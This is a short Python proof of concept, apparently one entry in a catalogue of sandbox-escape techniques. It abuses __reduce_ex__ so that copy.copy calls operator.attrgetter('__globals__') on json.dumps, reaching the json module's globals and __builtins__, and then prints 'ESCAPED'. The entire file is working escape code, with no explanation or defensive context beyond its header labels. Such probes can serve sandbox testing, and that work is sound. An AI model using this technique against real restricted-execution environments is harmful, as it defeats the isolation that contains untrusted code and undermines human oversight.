# technique: copy calls what __reduce_ex__ names: attrgetter, below a trusted frame
# goal: globals
# source: own analysis: attacker's C callables below a trusted frame
import copy
import json
import operator


class Carrier:
    def __reduce_ex__(self, version):
        return operator.attrgetter('__globals__'), (json.dumps,)


g = copy.copy(Carrier())
if '__builtins__' in g:
    print('ESCAPED globals of', g['__name__'])
